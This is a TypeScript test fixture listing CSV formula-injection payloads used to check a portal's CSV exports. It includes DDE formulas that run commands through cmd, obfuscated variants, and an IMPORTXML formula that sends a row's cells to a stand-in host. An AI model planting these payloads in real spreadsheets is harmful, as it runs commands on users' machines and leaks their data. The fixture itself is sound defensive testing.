// Formula-injection payloads (OWASP, "CSV Injection", and its examples), with the variants a probe
// of the portal used: a line break or carriage return after the formula, blanks or line breaks
// before it, and full-width signs. Every CSV the portal writes is tested with all of them.
export const CSV_INJECTION_PAYLOADS: readonly string[] = [
  "=1+1",
  "+1+1",
  "-1+1",
  "@SUM(1+1)",
  "=cmd|' /C calc'!A0",
  "=cmd|' /C notepad'!'A1'",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '=HYPERLINK("http://x","PF2")',
  '=HYPERLINK("http://x",\n"PF2")',
  '=HYPERLINK("http://x",\r\n"PF2")',
  "=1+1\r",
  "=1+1\n",
  "\t=1+1",
  "\r=1+1",
  "\n=1+1",
  " =1+1",
  "\u00a0=1+1",
  "\uff1d1+1",
  '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
  '=IMPORTXML(CONCAT("http://x/?v=", CONCATENATE(A2:E2)), "//a")',
];
